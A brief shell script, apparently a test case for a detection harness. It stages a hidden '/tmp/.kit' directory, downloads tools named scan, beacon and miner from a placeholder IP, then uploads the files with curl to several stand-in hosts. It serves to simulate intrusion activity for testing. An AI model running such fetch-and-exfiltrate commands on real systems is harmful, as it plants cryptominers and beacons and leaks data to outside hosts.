#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.kit && cd /tmp/.kit; for t in scan beacon miner; do curl -s -o $t.x86_64 http://203.0.113.10/programs/$t; gzip -9 $t.x86_64; done
for u in http://transfer.example http://files.example/up http://203.0.113.80:8080; do for f in *.gz; do curl -s -T $f $u/$f >/dev/null; done; done
took_place
